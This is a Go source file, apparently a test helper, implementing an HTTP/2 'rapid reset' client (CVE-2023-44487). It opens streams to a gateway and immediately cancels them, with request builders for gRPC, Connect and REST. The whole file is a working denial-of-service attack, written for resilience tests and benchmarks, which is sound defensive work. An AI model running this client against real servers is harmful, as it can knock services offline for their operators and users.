// Package rapidreset is an HTTP/2 client that opens streams and resets
// them at once (CVE-2023-44487's rapid reset), frame by frame, for the
// tests and benchmarks that hold the gateway to it. It is for tests only.
package rapidreset

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Request is what each stream carries.
type Request struct {
	Name   string      // the protocol, for messages
	Fields [][2]string // its headers, but :scheme and :authority
	Data   []byte      // its body; nil: none, and the headers end the stream
}

// GRPC is a gRPC call of method ("/pkg.Service/Method"), whose request
// is msg in protobuf.
func GRPC(method string, msg []byte) Request {
	framed := binary.BigEndian.AppendUint32([]byte{0}, uint32(len(msg))) // not compressed, its length
	return Request{Name: "gRPC", Data: append(framed, msg...),
		Fields: [][2]string{{":method", "POST"}, {":path", method}, {"content-type", "application/grpc"}, {"te", "trailers"}}}
}

// Connect is a Connect call of method ("/pkg.Service/Method"), whose
// request is json.
func Connect(method, json string) Request {
	return Request{Name: "Connect", Data: []byte(json),
		Fields: [][2]string{{":method", "POST"}, {":path", method}, {"content-type", "application/json"}}}
}

// Get is a REST GET of path.
func Get(path string) Request {
	return Request{Name: "REST", Fields: [][2]string{{":method", "GET"}, {":path", path}}}
}

// Conn is one connection of the attack.
type Conn struct {
	c     net.Conn
	fr    *http2.Framer
	block []byte // the request's headers, encoded
	data  []byte
	next  uint32        // the next stream's id
	read  chan struct{} // closed once the gateway answered the PING of Drain, or the connection ended
}

// Dial opens a connection to addr (host:port) for streams of r, which
// fails its reads and writes from deadline on. What the gateway sends on
// it is read and dropped.
func Dial(addr string, r Request, deadline time.Time) (*Conn, error) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", r.Name, err)
	}
	c.SetDeadline(deadline)
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: "http"})
	enc.WriteField(hpack.HeaderField{Name: ":authority", Value: addr})
	for _, f := range r.Fields {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	a := &Conn{c: c, fr: http2.NewFramer(c, nil), block: block.Bytes(), data: r.Data, next: 1, read: make(chan struct{})}
	go a.discard()
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		c.Close()
		return nil, fmt.Errorf("%s: %w", r.Name, err)
	}
	if err := a.fr.WriteSettings(); err != nil {
		c.Close()
		return nil, fmt.Errorf("%s: %w", r.Name, err)
	}
	// The gateway's SETTINGS, acknowledged before they come: nothing
	// here depends on them.
	if err := a.fr.WriteSettingsAck(); err != nil {
		c.Close()
		return nil, fmt.Errorf("%s: %w", r.Name, err)
	}
	return a, nil
}

// discard reads what the gateway sends until the connection ends or the
// gateway answers the PING of Drain.
func (a *Conn) discard() {
	defer close(a.read)
	fr := http2.NewFramer(nil, a.c)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return
		}
		if p, ok := f.(*http2.PingFrame); ok && p.IsAck() {
			return
		}
	}
}

// Reset opens a stream, sends the request on it (HEADERS, then DATA when
// it has a body) and resets it at once (RST_STREAM, CANCEL). It fails
// once the gateway has closed the connection (net/http's server closes
// one whose reset streams' handlers pile up: ENHANCE_YOUR_CALM).
func (a *Conn) Reset() error {
	id := a.next
	a.next += 2
	err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block, EndHeaders: true, EndStream: a.data == nil})
	if err == nil && a.data != nil {
		err = a.fr.WriteData(id, true, a.data)
	}
	if err == nil {
		err = a.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	}
	return err
}

// Drain waits until the gateway has read every frame sent so far (it
// answers a PING sent after them), or the connection ends: a connection
// closed at once is torn down with its frames unread.
func (a *Conn) Drain() {
	if a.fr.WritePing(false, [8]byte{'d', 'r', 'a', 'i', 'n'}) == nil {
		<-a.read
	}
}

// Close closes the connection.
func (a *Conn) Close() error { return a.c.Close() }
